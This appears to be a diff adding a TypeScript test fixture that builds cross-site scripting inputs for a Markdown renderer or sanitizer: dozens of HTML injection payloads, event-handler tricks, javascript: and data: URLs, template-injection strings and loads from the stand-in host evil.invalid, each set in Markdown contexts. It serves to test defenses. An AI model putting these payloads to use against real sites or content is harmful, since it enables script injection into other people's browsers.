@@ -1,0 +1,82 @@
+/** Texts that want to be code: each alone, and in what Markdown makes of its surroundings. */
+export const run = "window.__ran=(window.__ran||0)+1";
+const foreign = "http://evil.invalid";
+
+/** Each would run, or fetch from elsewhere, where a text is taken for HTML, for a style, for an address, or for a template. */
+const payloads: readonly string[] = [
+  `<script>${run}</script>`,
+  `<ScRiPt >${run}</sCrIpT>`,
+  `<script src=${foreign}/x.js></script>`,
+  `"><script>${run}</script>`,
+  `'--><svg/onload=${run}>`,
+  `</title><script>${run}</script>`,
+  `</textarea><script>${run}</script>`,
+  `</style><script>${run}</script>`,
+  `<img src=x onerror=${run}>`,
+  `<img src=x onerror="${run}" /`,
+  `<img src="${foreign}/pixel.png">`,
+  `<image href=x onerror=${run}>`,
+  `<svg onload=${run}>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
+  `<body onload=${run}>`,
+  `<input autofocus onfocus=${run}>`,
+  `<select autofocus onfocus=${run}>`,
+  `<details open ontoggle=${run}>x</details>`,
+  `<marquee onstart=${run}>x</marquee>`,
+  `<video><source onerror=${run}></video>`,
+  `<audio src=x onerror=${run}>`,
+  `<iframe src="javascript:parent.${run}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<iframe src="${foreign}"></iframe>`,
+  `<object data="javascript:${run}"></object>`,
+  `<embed src="data:text/html,<script>${run}</script>">`,
+  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
+  `<a href="javascript:${run}">x</a>`,
+  `<a href=" java\tscript:${run}">x</a>`,
+  `<base href="${foreign}/">`,
+  `<meta http-equiv="refresh" content="0;url=${foreign}">`,
+  `<link rel="stylesheet" href="${foreign}/x.css">`,
+  `<style>@import "${foreign}/x.css";</style>`,
+  `<style>*{background:url(${foreign}/x)}</style>`,
+  `<div style="background:url(${foreign}/x)">x</div>`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `{{constructor.constructor('${run}')()}}`,
+  `\${${run}}`,
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+  `\u202E<script>${run}</script>`,
+];
+const addresses: readonly string[] = [
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  `java&#x73;cript:${run}`,
+  `&#106;avascript:${run}`,
+  `data:text/html,<script>${run}</script>`,
+  `vbscript:${run}`,
+  `//evil.invalid/x`,
+  `${foreign}/pixel.png`,
+];
+const wrapped: readonly ((payload: string) => string)[] = [
+  (payload) => payload,
+  (payload) => `**${payload}** and text`,
+  (payload) => `- ${payload}`,
+  (payload) => `> ${payload}`,
+  (payload) => `# ${payload}`,
+  (payload) => `| a | b |\n|---|---|\n| ${payload} | \`${payload}\` |`,
+  (payload) => "```html\n" + payload + "\n```",
+];
+const linked: readonly ((address: string) => string)[] = [
+  (address) => `[click](${address})`,
+  (address) => `[click](<${address}>)`,
+  (address) => `![picture](${address})`,
+  (address) => `<${address}>`,
+  (address) => `[x][1]\n\n[1]: ${address}`,
+  (address) => `[![picture](${address})](${address} "title ${run}")`,
+];
+export const texts: readonly string[] = [
+  ...payloads.flatMap((payload) => wrapped.map((wrap) => wrap(payload))),
+  ...addresses.flatMap((address) => linked.map((link) => link(address))),
+];
